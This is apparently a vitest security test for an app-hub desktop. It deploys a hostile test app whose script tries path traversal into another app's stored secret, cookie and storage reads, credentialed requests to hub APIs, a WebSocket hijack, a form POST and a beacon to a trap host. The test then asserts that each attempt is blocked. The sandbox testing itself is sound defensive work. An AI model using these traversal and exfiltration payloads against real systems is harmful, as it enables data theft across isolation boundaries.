// An installed app that attacks: it reaches neither the hub, nor its origin, nor other apps, nor the page around it.

import { afterEach, beforeEach, expect, it } from "vitest";
import { doneFrame, roundTrip } from "./harness/content.js";
import { desktopFixture } from "./harness/fixture.js";
import { callTool } from "./harness/tools.js";
import { startTrap, type Trap } from "./harness/trap.js";

const desktop = desktopFixture();
let trap: Trap;

beforeEach(async () => {
  trap = await startTrap();
});

afterEach(() => trap.close());

it("an installed app has its own data and nothing else", async () => {
  desktop.guard.expect(/Content Security Policy|policy: |sandboxed|SecurityError|Unsafe attempt|Blocked|ERR_BLOCKED|net::ERR_FAILED|WebSocket connection|Refused|404|400/);
  const session = await desktop.hub.rest.newSession("attack");
  const page = await desktop.tab({ session });
  expect(await callTool(desktop.hub, session, "apps_market_get", { appId: "counter" })).toContain("installed");
  expect(await callTool(desktop.hub, session, "apps_write_config", { appId: "counter", filename: "count.json", content: "SECRET" })).toContain("complete");
  const script = `
    const hub = ${JSON.stringify(desktop.hub.url)}, evil = ${JSON.stringify(trap.url)}, out = {};
    const attempt = async (name, act) => { try { out[name] = String(await act()) } catch (e) { out[name] = "blocked" } };
    (async () => {
      await yaar.storage.save("own", "kept");
      await attempt("own", () => yaar.storage.read("own"));
      await attempt("list", async () => JSON.stringify(await yaar.storage.list()));
      for (const [i, name] of ["../counter/count.json", "..\\\\counter\\\\count.json", "/api/me", "../../../../me", "a/../../counter/count.json"].entries()) {
        await attempt("other" + i, async () => { const text = await yaar.storage.read(name); if (text === null) throw 1; return text; });
        await attempt("write" + i, () => yaar.storage.save(name, "x"));
      }
      // It is a name like any other: a file of the app itself.
      await attempt("escaped", async () => { const name = "..%2fcounter%2fcount.json"; await yaar.storage.save(name, "mine"); return (await yaar.storage.list()).includes(name); });
      await attempt("cookie", () => document.cookie);
      await attempt("localStorage", () => localStorage.length);
      await attempt("sessionStorage", () => sessionStorage.length);
      await attempt("caches", () => caches.keys());
      await attempt("database", () => new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = no; }));
      await attempt("worker", () => navigator.serviceWorker.register("/sw.js"));
      await attempt("broadcast", () => new Promise((ok, no) => { const c = new BroadcastChannel("everdesk-app-data"); c.onmessage = ok; setTimeout(no, 300); }));
      await attempt("topDocument", () => top.document.title);
      await attempt("open", () => { if (window.open(evil) === null) throw 1 });
      for (const path of ["/api/me", "/api/sessions", "/api/settings", "/api/apps/counter/index.html"]) {
        await attempt("fetch " + path, () => fetch(hub + path, { credentials: "include" }).then((r) => r.status));
        await attempt("sent " + path, () => fetch(hub + path, { credentials: "include", mode: "no-cors", method: "POST", body: "{}" }).then((r) => r.type));
      }
      await attempt("old request", () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = ok; x.onerror = no; x.open("GET", hub + "/api/me"); x.send(); }));
      await attempt("socket", () => new Promise((ok, no) => { const s = new WebSocket(hub.replace("http", "ws") + "/ws/${session}"); s.onopen = ok; s.onerror = no; }));
      await attempt("import", () => import(hub + "/assets/x.js"));
      await attempt("form", () => { const f = document.createElement("form"); f.method = "post"; f.action = hub + "/api/sessions"; document.body.append(f); f.submit(); throw 1; });
      await attempt("beacon", () => { navigator.sendBeacon(evil + "/b", "x"); throw 1; });
      await attempt("top", () => { top.location = evil + "/top"; });
      document.documentElement.dataset.out = JSON.stringify(out);
      document.documentElement.dataset.done = "yes";
    })();`;
  const wrote = await callTool(desktop.hub, session, "dev_write_ts", { path: "index.html", content: `<!doctype html><body>app<script>${script}</script>` });
  expect(await callTool(desktop.hub, session, "dev_deploy", { sandbox: /sandbox (\d+)/.exec(wrote)![1], appId: "evil" })).toContain("complete");
  const before = desktop.guard.requests.length;
  await page.locator('.win-icons [data-app-id="evil"]').click();
  const frame = await doneFrame(desktop.hub, page);
  const out = JSON.parse((await frame.evaluate(() => document.documentElement.dataset.out)) ?? "{}") as Record<string, string>;
  const { own, list, escaped, top: _, ...rest } = out;
  expect(own).toBe("kept");
  expect(escaped).toBe("true");
  expect(list).toBe('["own"]');
  expect(rest).toEqual(Object.fromEntries(Object.keys(rest).map((name) => [name, "blocked"])));
  await roundTrip(desktop.hub, session, page);
  expect(trap.caught).toEqual([]);
  expect(page.url()).toContain(desktop.hub.url);
  expect(page.context().pages()).toHaveLength(1);
  // The page around it asks for the app and its data, and for nothing that the app has named.
  const asked = desktop.guard.requests.slice(before).filter((r) => r.startsWith(`${desktop.hub.url}/api/`));
  // Icons of other apps belong to the desktop, which may still load them.
  expect(asked.filter((r) => !/\/(apps|app-data)\/evil(\/|$)/.test(r) && !/\/apps(\/[^/]+\/icon.*)?$/.test(r))).toEqual([]);
  expect(await callTool(desktop.hub, session, "apps_read_config", { appId: "counter", filename: "count.json" })).toContain("SECRET");
});
